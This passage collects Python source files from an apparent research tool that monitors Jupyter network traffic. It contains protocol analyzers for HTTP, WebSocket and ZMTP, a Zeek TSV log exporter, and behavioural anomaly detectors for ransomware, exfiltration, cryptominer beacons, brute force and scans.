        # normal record instead of a weird, a documented fidelity trade
        # (see DESIGN.md §6).
        content: Any = None
        if not skip_content:
            content_b = parts[idx + 5]
            if b'"code"' in content_b or b"\\u" in content_b:
                try:
                    content = _json_decode(content_b.decode("utf-8"))
                except (json.JSONDecodeError, UnicodeDecodeError):
                    self.logs.weird.append(
                        WeirdRecord(ts, conn.uid, "zmtp_bad_jupyter_json", ""))
                    return
        sig_ok: Optional[bool] = None
        if self.session_key:
            from repro.crypto.signing import HMACSigner

            sig_ok = HMACSigner(self.session_key).verify(
                parts[idx + 2 : idx + 6], parts[idx + 1])
            if not sig_ok:
                self._note(Notice(
                    ts=ts, detector="integrity", name="BAD_MESSAGE_SIGNATURE", severity="high",
                    src=src, dst=dst, avenue=None,
                    detail={"msg_type": msg_type},
                ))
        code = str(content.get("code", "")) if isinstance(content, dict) else ""
        rec = JupyterMsgRecord(
            ts, conn.uid, src, dst, "zmtp",
            msg_type if type(msg_type) is str else str(msg_type),
            session if type(session) is str else str(session),
            username if type(username) is str else str(username),
            len(code), 0, code, sig_ok,
        )
        self.logs.jupyter.append(rec)
        if code:
            for n in self.signatures.scan_jupyter(rec):
                self._note(n)
        if dedupe:
            self._mark_msg(msg_id, _MSG_ZMTP_SEEN
                           | (0 if skip_content else _MSG_CONTENT_SCANNED))

    # -- external observation feeds (audit plane, server logs) ---------------------------
    def observe_file_write(self, ts: float, path: str, content: bytes, *, src: str = "kernel") -> None:
        """Kernel-auditor integration: file writes feed the entropy detector."""
        self._note(self.entropy.observe_write(ts, path, content, src=src))

    def observe_terminal(self, ts: float, src: str, command: str) -> None:
        for n in self.signatures.scan_terminal(ts, src, command):
            self._note(n)

    # -- reporting ----------------------------------------------------------------------
    def summary(self) -> Dict[str, object]:
        return {
            "depth": self.depth.name,
            "health": {
                "segments": self.health.segments_seen,
                "dropped": self.health.segments_dropped,
                "bytes": self.health.bytes_seen,
                "parse_errors": self.health.parse_errors,
                "layer_bytes": self.health.layer_bytes(),
                "jupyter_dedupe_rate": round(self.health.dedupe_hit_rate, 4),
            },
            "logs": self.logs.counts(),
            "notices": sorted({n.name for n in self.logs.notices}),
        }
