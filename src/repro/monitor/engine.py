"""The monitor engine: reassembly, protocol analyzers, detector fan-out.

One :class:`JupyterNetworkMonitor` subscribes to a simnet tap.  Per
connection and direction it keeps an analyzer state machine:

    unknown → http  (request line seen)          → websocket (101 upgrade)
            → zmtp  (ZMTP signature seen)

Each decoded layer appends to the :class:`~repro.monitor.logs.LogStore`
and feeds the signature engine and anomaly detectors.  The engine also
keeps a *processing budget*: a configurable events/sec ceiling that,
when exceeded (monitor-DoS), forces segment drops — the integrity-of-
the-monitor failure mode the paper's §IV.A warns about.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from enum import IntEnum
from typing import Dict, List, Optional, Tuple

from repro.monitor.anomaly import (
    BeaconDetector,
    BruteForceDetector,
    CusumEgressDetector,
    EgressVolumeDetector,
    EntropyBurstDetector,
    NewSourceDetector,
    ScanDetector,
    TenantSweepDetector,
)
from repro.monitor.logs import (
    ConnRecord,
    HttpRecord,
    JupyterMsgRecord,
    LogStore,
    Notice,
    WebSocketRecord,
    WeirdRecord,
    ZmtpRecord,
)
from repro.monitor.signatures import SignatureEngine
from repro.simnet import NetworkTap, Segment
from repro.taxonomy.oscrp import Avenue
from repro.util.entropy import shannon_entropy
from repro.util.errors import ProtocolError
from repro.wire.http import parse_request, parse_response
from repro.wire.websocket import Opcode, WebSocketDecoder
from repro.wire.zmtp import SIGNATURE_PREFIX, ZmtpDecoder


class AnalyzerDepth(IntEnum):
    """How deep the monitor parses.  Each level includes the previous."""

    CONN = 0       # five-tuples and byte counts only
    HTTP = 1       # + HTTP transactions
    WEBSOCKET = 2  # + WebSocket frames/messages
    ZMTP = 3       # + ZeroMQ framing on kernel ports
    JUPYTER = 4    # + Jupyter message semantics (both framings)


class _DirState:
    """Analyzer state for one direction of one connection."""

    __slots__ = ("buffer", "protocol", "ws_decoder", "zmtp_decoder", "http_requests")

    def __init__(self) -> None:
        self.buffer = b""
        self.protocol = "unknown"
        self.ws_decoder: Optional[WebSocketDecoder] = None
        self.zmtp_decoder: Optional[ZmtpDecoder] = None
        self.http_requests: List[Tuple[str, str]] = []  # (method, path) pending responses


_HTTP_METHODS = (b"GET ", b"POST", b"PUT ", b"DELE", b"PATC", b"HEAD", b"OPTI")


@dataclass
class MonitorHealth:
    """Self-metrics (the DoS-resilience experiment reads these)."""

    segments_seen: int = 0
    segments_dropped: int = 0
    bytes_seen: int = 0
    parse_errors: int = 0

    @property
    def drop_rate(self) -> float:
        return self.segments_dropped / self.segments_seen if self.segments_seen else 0.0


class JupyterNetworkMonitor:
    """The paper's proposed network monitoring tool."""

    def __init__(
        self,
        *,
        depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
        signatures: Optional[SignatureEngine] = None,
        session_key: bytes = b"",
        budget_events_per_second: float = 0.0,  # 0 = unlimited
        internal_prefix: str = "10.",
        output_size_threshold: int = 16_384,
        infrastructure_ips: Optional[set] = None,
    ):
        #: Own-infrastructure sources (e.g. a hub reverse proxy) whose
        #: authenticated traffic is plumbing, not a client logging in —
        #: excluded from auth-outcome detectors so the proxy's backend
        #: leg never reads as a stolen credential or a brute force.
        self.infrastructure_ips = infrastructure_ips or set()
        self.output_size_threshold = output_size_threshold
        self.depth = depth
        self.logs = LogStore()
        self.signatures = signatures or SignatureEngine()
        self.session_key = session_key
        self.health = MonitorHealth()
        self.budget = budget_events_per_second
        self.internal_prefix = internal_prefix
        self._budget_bucket: Tuple[int, int] = (0, 0)  # (second, events)
        self._conns: Dict[str, ConnRecord] = {}
        self._dirstate: Dict[Tuple[str, str], _DirState] = {}
        # Detector suite.
        self.entropy = EntropyBurstDetector()
        self.egress = EgressVolumeDetector(internal_prefix=internal_prefix)
        self.cusum = CusumEgressDetector(internal_prefix=internal_prefix)
        self.beacon = BeaconDetector(internal_prefix=internal_prefix)
        self.bruteforce = BruteForceDetector()
        self.scan = ScanDetector()
        self.newsource = NewSourceDetector()
        self.tenantsweep = TenantSweepDetector()
        self.detectors = [self.entropy, self.egress, self.cusum, self.beacon,
                          self.bruteforce, self.scan, self.newsource,
                          self.tenantsweep]

    # -- wiring ---------------------------------------------------------------------
    def attach(self, tap: NetworkTap) -> None:
        tap.subscribe(self.on_segment)

    def _note(self, notice: Optional[Notice]) -> None:
        if notice is not None:
            self.logs.notices.append(notice)

    # -- budget (DoS) ------------------------------------------------------------------
    def _over_budget(self, ts: float) -> bool:
        if self.budget <= 0:
            return False
        second = int(ts)
        sec, count = self._budget_bucket
        if second != sec:
            self._budget_bucket = (second, 1)
            return False
        self._budget_bucket = (second, count + 1)
        return count + 1 > self.budget

    # -- segment intake ----------------------------------------------------------------
    def on_segment(self, seg: Segment) -> None:
        self.health.segments_seen += 1
        self.health.bytes_seen += seg.size
        if self._over_budget(seg.ts):
            self.health.segments_dropped += 1
            return
        conn = self._conns.get(seg.conn_id or f"{seg.src}:{seg.sport}->{seg.dst}:{seg.dport}")
        key = seg.conn_id or f"{seg.src}:{seg.sport}->{seg.dst}:{seg.dport}"
        if conn is None:
            conn = ConnRecord(seg.ts, key, seg.src, seg.sport, seg.dst, seg.dport)
            self._conns[key] = conn
            self.logs.conn.append(conn)
        if seg.flags == "R":
            # The reset direction of a refused probe; the SYN already fed
            # the scan detector, so just mark the conn rejected.
            conn.service = conn.service or "rejected"
            return
        if seg.flags == "S":
            self._note(self.scan.observe_probe(seg.ts, seg.src, seg.dst, seg.dport))
            return
        if seg.flags == "F":
            conn.closed = True
            conn.duration = seg.ts - conn.ts
            return
        origin_to_responder = seg.src == conn.src and seg.sport == conn.sport
        if origin_to_responder:
            conn.bytes_orig += seg.size
        else:
            conn.bytes_resp += seg.size
        # Egress accounting happens at the segment level: every outbound
        # byte counts, regardless of protocol.
        self._note(self.egress.observe_bytes(seg.ts, seg.src, seg.dst, seg.size))
        self._note(self.cusum.observe_bytes(seg.ts, seg.src, seg.dst, seg.size))
        self._note(self.beacon.observe_send(seg.ts, seg.src, seg.dst, seg.size))
        if self.depth >= AnalyzerDepth.HTTP and seg.payload:
            self._analyze(seg, conn, origin_to_responder)

    # -- protocol analysis ----------------------------------------------------------------
    def _dir(self, conn: ConnRecord, orig: bool) -> _DirState:
        key = (conn.uid, "orig" if orig else "resp")
        state = self._dirstate.get(key)
        if state is None:
            state = _DirState()
            self._dirstate[key] = state
        return state

    def _analyze(self, seg: Segment, conn: ConnRecord, orig: bool) -> None:
        state = self._dir(conn, orig)
        state.buffer += seg.payload
        if state.protocol == "unknown":
            self._sniff(state, conn)
        try:
            if state.protocol == "http":
                self._analyze_http(seg, conn, orig, state)
            elif state.protocol == "websocket" and self.depth >= AnalyzerDepth.WEBSOCKET:
                self._analyze_websocket(seg, conn, orig, state)
            elif state.protocol == "zmtp" and self.depth >= AnalyzerDepth.ZMTP:
                self._analyze_zmtp(seg, conn, orig, state)
        except ProtocolError as e:
            self.health.parse_errors += 1
            self.logs.weird.append(WeirdRecord(seg.ts, conn.uid, "parse_error", str(e)))
            state.protocol = "broken"
            state.buffer = b""

    def _sniff(self, state: _DirState, conn: ConnRecord) -> None:
        buf = state.buffer
        if len(buf) < 4:
            return
        if buf[:4] in _HTTP_METHODS or buf.startswith(b"HTTP/"):
            state.protocol = "http"
            conn.service = conn.service or "http"
        elif buf.startswith(SIGNATURE_PREFIX[:4]):
            state.protocol = "zmtp"
            state.zmtp_decoder = ZmtpDecoder()
            conn.service = "zmtp"
        else:
            state.protocol = "opaque"

    def _analyze_http(self, seg: Segment, conn: ConnRecord, orig: bool, state: _DirState) -> None:
        while True:
            if orig:
                req, rest = parse_request(state.buffer)
                if req is None:
                    return
                state.buffer = rest
                rec = HttpRecord(
                    ts=seg.ts, uid=conn.uid, src=conn.src, dst=conn.dst,
                    method=req.method, path=req.path,
                    request_bytes=len(req.body),
                    has_auth=bool(req.header("authorization")),
                    user_agent=req.header("user-agent"),
                )
                self.logs.http.append(rec)
                for n in self.signatures.scan_http(rec, req.body.decode("latin-1")):
                    self.logs.notices.append(n)
                # Hub-path visibility: a client IP spread across tenants.
                self._note(self.tenantsweep.observe_request(seg.ts, conn.src, req.path))
                # Network-plane ransomware signal: high-entropy PUT bodies.
                if req.method in ("PUT", "POST") and req.body:
                    content = req.body
                    if req.path.startswith("/api/contents"):
                        content = self._extract_content_bytes(req.body)
                    self._note(self.entropy.observe_write(seg.ts, req.path, content, src=conn.src))
                if req.is_websocket_upgrade():
                    state.http_requests.append(("UPGRADE", req.path))
                else:
                    state.http_requests.append((req.method, req.path))
            else:
                resp, rest = parse_response(state.buffer)
                if resp is None:
                    return
                state.buffer = rest
                peer = self._dir(conn, True)
                method, path = peer.http_requests.pop(0) if peer.http_requests else ("", "")
                for rec in reversed(self.logs.http):
                    if rec.uid == conn.uid and rec.status == 0 and rec.path == path:
                        rec.status = resp.status
                        rec.response_bytes = len(resp.body)
                        break
                # Auth outcome signals (brute force / stolen token); hub
                # paths (/user/<name>/api, /hub/api) carry the same signal.
                if (path.startswith(("/api", "/user/", "/hub/"))
                        and resp.status in (200, 201, 204, 403, 101)
                        and conn.src not in self.infrastructure_ips):
                    ok = resp.status != 403
                    self._note(self.bruteforce.observe_auth(seg.ts, conn.src, ok))
                    self._note(self.newsource.observe_auth(seg.ts, conn.src, ok))
                if resp.status == 101:
                    if method == "UPGRADE":
                        conn.service = "websocket"
                        # Both directions switch to WS framing.
                        for d in (True, False):
                            s = self._dir(conn, d)
                            s.protocol = "websocket"
                            s.ws_decoder = WebSocketDecoder()
                        state.buffer, leftover = b"", state.buffer
                        if leftover and self.depth >= AnalyzerDepth.WEBSOCKET:
                            self._dir(conn, orig).buffer = b""
                            self._feed_ws(seg, conn, orig, leftover)
                    return

    @staticmethod
    def _extract_content_bytes(body: bytes) -> bytes:
        """Pull the 'content' field out of a contents-API JSON body."""
        try:
            model = json.loads(body)
            content = model.get("content", "")
            if isinstance(content, str):
                if model.get("format") == "base64":
                    import base64

                    return base64.b64decode(content)
                return content.encode("utf-8", "replace")
            return json.dumps(content).encode()
        except (json.JSONDecodeError, ValueError, AttributeError):
            return body

    def _analyze_websocket(self, seg: Segment, conn: ConnRecord, orig: bool, state: _DirState) -> None:
        data, state.buffer = state.buffer, b""
        self._feed_ws(seg, conn, orig, data)

    def _feed_ws(self, seg: Segment, conn: ConnRecord, orig: bool, data: bytes) -> None:
        state = self._dir(conn, orig)
        if state.ws_decoder is None:
            state.ws_decoder = WebSocketDecoder()
        state.ws_decoder.feed(data)
        src = conn.src if orig else conn.dst
        dst = conn.dst if orig else conn.src
        for opcode, payload in state.ws_decoder.messages():
            self.logs.websocket.append(WebSocketRecord(
                ts=seg.ts, uid=conn.uid, src=src, dst=dst,
                opcode=opcode.name.lower(), payload_bytes=len(payload),
                masked=orig, entropy=round(shannon_entropy(payload), 3),
            ))
            if self.depth >= AnalyzerDepth.JUPYTER and opcode in (Opcode.TEXT, Opcode.BINARY):
                self._analyze_jupyter_ws(seg.ts, conn, src, dst, payload)

    def _analyze_jupyter_ws(self, ts: float, conn: ConnRecord, src: str, dst: str, payload: bytes) -> None:
        try:
            d = json.loads(payload)
            header = d.get("header", {})
        except (json.JSONDecodeError, AttributeError):
            self.logs.weird.append(WeirdRecord(ts, conn.uid, "ws_not_jupyter", ""))
            return
        if not isinstance(header, dict) or "msg_type" not in header:
            self.logs.weird.append(WeirdRecord(ts, conn.uid, "ws_not_jupyter", ""))
            return
        content = d.get("content", {}) if isinstance(d.get("content"), dict) else {}
        code = str(content.get("code", ""))
        output_size = 0
        if header.get("msg_type") in ("execute_result", "display_data", "stream"):
            output_size = len(json.dumps(content))
        rec = JupyterMsgRecord(
            ts=ts, uid=conn.uid, src=src, dst=dst,
            channel=str(d.get("channel", "")), msg_type=str(header.get("msg_type", "")),
            session=str(header.get("session", "")), username=str(header.get("username", "")),
            code_size=len(code), output_size=output_size, code=code,
        )
        self.logs.jupyter.append(rec)
        self._check_output_size(rec)
        for n in self.signatures.scan_jupyter(rec):
            self.logs.notices.append(n)

    def _check_output_size(self, rec: JupyterMsgRecord) -> None:
        """Output-channel smuggling: data exfiltrated *through iopub* never
        touches an attacker socket, so volume detectors are blind — but a
        single text output larger than any plausible repr is the tell."""
        if rec.output_size > self.output_size_threshold:
            self.logs.notices.append(Notice(
                ts=rec.ts, detector="jupyter-layer", name="OVERSIZED_OUTPUT",
                severity="high", src=rec.src, dst=rec.dst,
                avenue=Avenue.DATA_EXFILTRATION,
                detail={"output_size": rec.output_size, "msg_type": rec.msg_type,
                        "threshold": self.output_size_threshold},
            ))

    def _analyze_zmtp(self, seg: Segment, conn: ConnRecord, orig: bool, state: _DirState) -> None:
        data, state.buffer = state.buffer, b""
        assert state.zmtp_decoder is not None
        state.zmtp_decoder.feed(data)
        src = conn.src if orig else conn.dst
        dst = conn.dst if orig else conn.src
        mechanism = (state.zmtp_decoder.greeting or {}).get("mechanism", "")
        for parts in state.zmtp_decoder.messages():
            self.logs.zmtp.append(ZmtpRecord(
                ts=seg.ts, uid=conn.uid, src=src, dst=dst,
                parts=len(parts), payload_bytes=sum(len(p) for p in parts),
                mechanism=mechanism,
            ))
            if self.depth >= AnalyzerDepth.JUPYTER:
                self._analyze_jupyter_zmtp(seg.ts, conn, src, dst, parts)

    def _analyze_jupyter_zmtp(self, ts: float, conn: ConnRecord, src: str, dst: str,
                              parts: List[bytes]) -> None:
        try:
            idx = parts.index(b"<IDS|MSG>")
        except ValueError:
            return
        after = parts[idx + 1:]
        if len(after) < 5:
            return
        signature, header_b, _parent, _md, content_b = after[:5]
        try:
            header = json.loads(header_b)
            content = json.loads(content_b)
        except json.JSONDecodeError:
            self.logs.weird.append(WeirdRecord(ts, conn.uid, "zmtp_bad_jupyter_json", ""))
            return
        sig_ok: Optional[bool] = None
        if self.session_key:
            from repro.crypto.signing import HMACSigner

            sig_ok = HMACSigner(self.session_key).verify(after[1:5], signature)
            if not sig_ok:
                self.logs.notices.append(Notice(
                    ts=ts, detector="integrity", name="BAD_MESSAGE_SIGNATURE", severity="high",
                    src=src, dst=dst, avenue=None,
                    detail={"msg_type": header.get("msg_type", "")},
                ))
        code = str(content.get("code", "")) if isinstance(content, dict) else ""
        rec = JupyterMsgRecord(
            ts=ts, uid=conn.uid, src=src, dst=dst,
            channel="zmtp", msg_type=str(header.get("msg_type", "")),
            session=str(header.get("session", "")), username=str(header.get("username", "")),
            code_size=len(code), output_size=0, code=code, signature_ok=sig_ok,
        )
        self.logs.jupyter.append(rec)
        for n in self.signatures.scan_jupyter(rec):
            self.logs.notices.append(n)

    # -- external observation feeds (audit plane, server logs) ---------------------------
    def observe_file_write(self, ts: float, path: str, content: bytes, *, src: str = "kernel") -> None:
        """Kernel-auditor integration: file writes feed the entropy detector."""
        self._note(self.entropy.observe_write(ts, path, content, src=src))

    def observe_terminal(self, ts: float, src: str, command: str) -> None:
        for n in self.signatures.scan_terminal(ts, src, command):
            self.logs.notices.append(n)

    # -- reporting ----------------------------------------------------------------------
    def summary(self) -> Dict[str, object]:
        return {
            "depth": self.depth.name,
            "health": {
                "segments": self.health.segments_seen,
                "dropped": self.health.segments_dropped,
                "bytes": self.health.bytes_seen,
                "parse_errors": self.health.parse_errors,
            },
            "logs": self.logs.counts(),
            "notices": sorted({n.name for n in self.logs.notices}),
        }
