"""Zeek-compatible TSV export of monitor logs.

Sites that already operate Zeek pipelines ingest tab-separated logs with
``#fields``/``#types`` headers; exporting our log families in that shape
lets the monitor's output flow into existing SIEM tooling unchanged —
the integration path the paper's related-work section implies when it
tracks Zeek's WebSocket analyzer PRs.
"""

from __future__ import annotations

from dataclasses import fields as dc_fields
from typing import Any, Dict, Iterable, List, Sequence

from repro.monitor.logs import LogStore

_SEPARATOR = "\t"
_EMPTY = "-"


def _render_value(value: Any) -> str:
    if value is None or value == "":
        return _EMPTY
    if isinstance(value, bool):
        return "T" if value else "F"
    if isinstance(value, float):
        return f"{value:.6f}"
    if isinstance(value, dict):
        import json

        return json.dumps(value, sort_keys=True, default=str)
    text = str(value)
    return text.replace(_SEPARATOR, " ").replace("\n", " ") or _EMPTY


def _zeek_type(value: Any) -> str:
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, int):
        return "count"
    if isinstance(value, float):
        return "double"
    return "string"


def _record_fields(rec: Any) -> List[str]:
    """Exported column names for a record: dataclass fields, or — for
    slab-optimized plain-slots records like ``WebSocketRecord`` — the
    public slot names plus lazily-computed properties (``_payload`` is
    internal state, ``_entropy`` surfaces as the ``entropy`` property)."""
    try:
        return [f.name for f in dc_fields(rec)]
    except TypeError:
        return [
            name.lstrip("_") for name in rec.__slots__ if name != "_payload"
        ]


def records_to_tsv(records: Sequence[Any], *, path_name: str) -> str:
    """Render a list of dataclass records as one Zeek-style TSV log."""
    lines = [
        "#separator \\x09",
        f"#empty_field {_EMPTY}",
        f"#path {path_name}",
    ]
    if not records:
        lines.append("#fields")
        return "\n".join(lines) + "\n"
    first = records[0]
    names = _record_fields(first)
    values0 = [getattr(first, n) for n in names]
    lines.append("#fields" + _SEPARATOR + _SEPARATOR.join(names))
    lines.append("#types" + _SEPARATOR + _SEPARATOR.join(_zeek_type(v) for v in values0))
    for rec in records:
        lines.append(_SEPARATOR.join(_render_value(getattr(rec, n)) for n in names))
    return "\n".join(lines) + "\n"


def export_zeek_logs(store: LogStore) -> Dict[str, str]:
    """All log families as named TSV documents (conn.log, http.log, ...)."""
    return {
        "conn.log": records_to_tsv(store.conn, path_name="conn"),
        "http.log": records_to_tsv(store.http, path_name="http"),
        "websocket.log": records_to_tsv(store.websocket, path_name="websocket"),
        "zmtp.log": records_to_tsv(store.zmtp, path_name="zmtp"),
        "jupyter.log": records_to_tsv(store.jupyter, path_name="jupyter"),
        "notice.log": records_to_tsv(store.notices, path_name="notice"),
        "weird.log": records_to_tsv(store.weird, path_name="weird"),
    }


def parse_tsv(text: str) -> List[Dict[str, str]]:
    """Parse a TSV log back into dict rows (round-trip/testing aid)."""
    names: List[str] = []
    rows: List[Dict[str, str]] = []
    for line in text.splitlines():
        if line.startswith("#fields"):
            names = line.split(_SEPARATOR)[1:]
        elif line.startswith("#"):
            continue
        elif line.strip():
            values = line.split(_SEPARATOR)
            rows.append(dict(zip(names, values)))
    return rows
