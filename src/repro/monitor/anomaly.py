"""Anomaly detectors: the behavioural half of the monitoring tool.

Each detector consumes a narrow observation stream and emits
:class:`~repro.monitor.logs.Notice` objects.  The suite maps one-to-one
onto the taxonomy's observables:

- :class:`EntropyBurstDetector` — ransomware (high-entropy overwrite bursts)
- :class:`EgressVolumeDetector` — bulk exfiltration (windowed threshold)
- :class:`CusumEgressDetector`  — low-and-slow exfiltration (CUSUM drift)
- :class:`BeaconDetector`       — cryptominer C2 keepalives (regular timing)
- :class:`BruteForceDetector`   — token/password guessing (auth failures)
- :class:`ScanDetector`         — misconfiguration scans (fan-out probes)
- :class:`NewSourceDetector`    — stolen-token use (new infrastructure)
- :class:`TenantSweepDetector`  — cross-tenant pivots through a hub proxy

EXP-EVADE sweeps exfiltration rate against EgressVolume vs Cusum — the
threshold detector goes blind below its rate floor while CUSUM trades
detection delay for asymptotic certainty, reproducing the paper's
low-and-slow evasion discussion.
"""

from __future__ import annotations

import math
from collections import defaultdict, deque
from dataclasses import dataclass, field
from typing import Deque, Dict, List, Optional, Set, Tuple

from repro.monitor.logs import Notice
from repro.taxonomy.oscrp import Avenue
from repro.util.entropy import shannon_entropy


class AnomalyDetector:
    """Base class: collects notices, deduplicates by (name, src, dst)."""

    name = "anomaly"

    def __init__(self, *, renotify_interval: float = 300.0):
        self.notices: List[Notice] = []
        self._last_notice: Dict[Tuple[str, str, str], float] = {}
        self.renotify_interval = renotify_interval

    def _emit(self, notice: Notice) -> Optional[Notice]:
        key = (notice.name, notice.src, notice.dst)
        last = self._last_notice.get(key)
        if last is not None and notice.ts - last < self.renotify_interval:
            return None
        self._last_notice[key] = notice.ts
        self.notices.append(notice)
        return notice


class EntropyBurstDetector(AnomalyDetector):
    """Flags a burst of high-entropy writes: the ransomware fingerprint.

    Observations are (ts, path, content) write events from either plane
    (HTTP PUT bodies on the network, file_write events from the kernel
    auditor).  A notice fires when, within ``window`` seconds, at least
    ``min_files`` distinct paths are overwritten with content whose
    Shannon entropy exceeds ``entropy_floor``.
    """

    name = "entropy-burst"

    def __init__(self, *, window: float = 60.0, min_files: int = 5,
                 entropy_floor: float = 7.0, min_size: int = 64, **kw):
        super().__init__(**kw)
        self.window = window
        self.min_files = min_files
        self.entropy_floor = entropy_floor
        self.min_size = min_size
        self._hits: Deque[Tuple[float, str]] = deque()

    def observe_write(self, ts: float, path: str, content: bytes, *, src: str = "") -> Optional[Notice]:
        if len(content) < self.min_size or shannon_entropy(content) < self.entropy_floor:
            return None
        self._hits.append((ts, path))
        cutoff = ts - self.window
        while self._hits and self._hits[0][0] < cutoff:
            self._hits.popleft()
        distinct = {p for _, p in self._hits}
        if len(distinct) >= self.min_files:
            return self._emit(Notice(
                ts=ts, detector=self.name, name="RANSOMWARE_ENTROPY_BURST", severity="critical",
                src=src, avenue=Avenue.RANSOMWARE,
                detail={"files_in_window": len(distinct), "window": self.window,
                        "example_paths": sorted(distinct)[:5]},
            ))
        return None


class EgressVolumeDetector(AnomalyDetector):
    """Windowed outbound-volume threshold per (src, dst) pair."""

    name = "egress-volume"

    def __init__(self, *, window: float = 60.0, threshold_bytes: int = 1_000_000,
                 internal_prefix: str = "10.", **kw):
        super().__init__(**kw)
        self.window = window
        self.threshold_bytes = threshold_bytes
        self.internal_prefix = internal_prefix
        self._events: Dict[Tuple[str, str], Deque[Tuple[float, int]]] = defaultdict(deque)

    def observe_bytes(self, ts: float, src: str, dst: str, nbytes: int) -> Optional[Notice]:
        # Only internal→external transfers count as egress.
        if not src.startswith(self.internal_prefix) or dst.startswith(self.internal_prefix):
            return None
        q = self._events[(src, dst)]
        q.append((ts, nbytes))
        cutoff = ts - self.window
        while q and q[0][0] < cutoff:
            q.popleft()
        total = sum(n for _, n in q)
        if total >= self.threshold_bytes:
            return self._emit(Notice(
                ts=ts, detector=self.name, name="EXFIL_VOLUME", severity="high",
                src=src, dst=dst, avenue=Avenue.DATA_EXFILTRATION,
                detail={"bytes_in_window": total, "window": self.window,
                        "threshold": self.threshold_bytes},
            ))
        return None


class CusumEgressDetector(AnomalyDetector):
    """CUSUM drift detector over per-window egress byte counts.

    Accumulates ``S = max(0, S + (x - baseline - slack))`` per destination;
    alarms when S crosses ``decision_threshold``.  Catches rate-shaped
    exfiltration the plain threshold misses — at the cost of delay
    proportional to how far the trickle sits above baseline.
    """

    name = "cusum-egress"

    def __init__(self, *, bucket_seconds: float = 10.0, baseline_bytes: float = 2_000.0,
                 slack_bytes: float = 2_000.0, decision_threshold: float = 100_000.0,
                 internal_prefix: str = "10.", **kw):
        super().__init__(**kw)
        self.bucket_seconds = bucket_seconds
        self.baseline = baseline_bytes
        self.slack = slack_bytes
        self.h = decision_threshold
        self.internal_prefix = internal_prefix
        self._buckets: Dict[Tuple[str, str], Tuple[int, float]] = {}  # key -> (bucket_idx, sum)
        self._cusum: Dict[Tuple[str, str], float] = defaultdict(float)

    def observe_bytes(self, ts: float, src: str, dst: str, nbytes: int) -> Optional[Notice]:
        if not src.startswith(self.internal_prefix) or dst.startswith(self.internal_prefix):
            return None
        key = (src, dst)
        idx = int(ts // self.bucket_seconds)
        prev_idx, acc = self._buckets.get(key, (idx, 0.0))
        if idx == prev_idx:
            self._buckets[key] = (idx, acc + nbytes)
            return None
        # Close out all buckets between prev_idx and idx (empty ones decay S).
        notice = None
        for b in range(prev_idx, idx):
            x = acc if b == prev_idx else 0.0
            s = max(0.0, self._cusum[key] + (x - self.baseline - self.slack))
            self._cusum[key] = s
            if s >= self.h:
                notice = self._emit(Notice(
                    ts=ts, detector=self.name, name="EXFIL_CUSUM_DRIFT", severity="high",
                    src=src, dst=dst, avenue=Avenue.DATA_EXFILTRATION,
                    detail={"cusum": s, "threshold": self.h,
                            "bucket_seconds": self.bucket_seconds},
                ))
                self._cusum[key] = 0.0
        self._buckets[key] = (idx, float(nbytes))
        return notice


class BeaconDetector(AnomalyDetector):
    """Regular-interval outbound messages: C2/stratum keepalive timing.

    Computes the coefficient of variation of inter-arrival times over the
    last ``min_events`` small outbound sends per (src, dst); CV below
    ``cv_threshold`` with a mean period in the plausible beacon band
    fires a notice.  Benign interactive traffic is bursty (CV ≈ 1).
    """

    name = "beacon"

    def __init__(self, *, min_events: int = 8, cv_threshold: float = 0.25,
                 min_period: float = 1.0, max_period: float = 600.0,
                 max_payload: int = 4096, internal_prefix: str = "10.", **kw):
        super().__init__(**kw)
        self.min_events = min_events
        self.cv_threshold = cv_threshold
        self.min_period = min_period
        self.max_period = max_period
        self.max_payload = max_payload
        self.internal_prefix = internal_prefix
        self._times: Dict[Tuple[str, str], Deque[float]] = defaultdict(
            lambda: deque(maxlen=max(self.min_events + 1, 16)))

    def observe_send(self, ts: float, src: str, dst: str, nbytes: int) -> Optional[Notice]:
        if nbytes > self.max_payload or nbytes == 0:
            return None
        if not src.startswith(self.internal_prefix) or dst.startswith(self.internal_prefix):
            return None
        q = self._times[(src, dst)]
        q.append(ts)
        if len(q) <= self.min_events:
            return None
        gaps = [b - a for a, b in zip(list(q), list(q)[1:]) if b > a]
        if len(gaps) < self.min_events - 1:
            return None
        mean = sum(gaps) / len(gaps)
        if not (self.min_period <= mean <= self.max_period):
            return None
        var = sum((g - mean) ** 2 for g in gaps) / len(gaps)
        cv = math.sqrt(var) / mean if mean > 0 else float("inf")
        if cv <= self.cv_threshold:
            return self._emit(Notice(
                ts=ts, detector=self.name, name="MINER_BEACON", severity="high",
                src=src, dst=dst, avenue=Avenue.CRYPTOMINING,
                detail={"mean_period": round(mean, 3), "cv": round(cv, 4),
                        "events": len(q)},
            ))
        return None


class BruteForceDetector(AnomalyDetector):
    """Auth-failure counting with a sliding window per source."""

    name = "brute-force"

    def __init__(self, *, window: float = 120.0, max_failures: int = 10, **kw):
        super().__init__(**kw)
        self.window = window
        self.max_failures = max_failures
        self._failures: Dict[str, Deque[float]] = defaultdict(deque)

    def observe_auth(self, ts: float, src: str, ok: bool) -> Optional[Notice]:
        if ok:
            return None
        q = self._failures[src]
        q.append(ts)
        cutoff = ts - self.window
        while q and q[0] < cutoff:
            q.popleft()
        if len(q) >= self.max_failures:
            return self._emit(Notice(
                ts=ts, detector=self.name, name="AUTH_BRUTEFORCE", severity="high",
                src=src, avenue=Avenue.ACCOUNT_TAKEOVER,
                detail={"failures_in_window": len(q), "window": self.window},
            ))
        return None


class ScanDetector(AnomalyDetector):
    """Fan-out probing: distinct (dst, port) touched per source."""

    name = "scan"

    def __init__(self, *, window: float = 60.0, max_targets: int = 10, **kw):
        super().__init__(**kw)
        self.window = window
        self.max_targets = max_targets
        self._probes: Dict[str, Deque[Tuple[float, Tuple[str, int]]]] = defaultdict(deque)

    def observe_probe(self, ts: float, src: str, dst: str, dport: int) -> Optional[Notice]:
        q = self._probes[src]
        q.append((ts, (dst, dport)))
        cutoff = ts - self.window
        while q and q[0][0] < cutoff:
            q.popleft()
        targets = {t for _, t in q}
        if len(targets) >= self.max_targets:
            return self._emit(Notice(
                ts=ts, detector=self.name, name="PORT_SCAN", severity="medium",
                src=src, avenue=Avenue.MISCONFIGURATION,
                detail={"distinct_targets": len(targets), "window": self.window},
            ))
        return None


class TenantSweepDetector(AnomalyDetector):
    """One source fanning out across hub tenants: the pivot fingerprint.

    At the proxy tap every tenant's traffic shares one front door, so a
    cross-tenant campaign shows up as a single client IP touching many
    distinct ``/user/<name>/`` prefixes in a short window.  Benign users
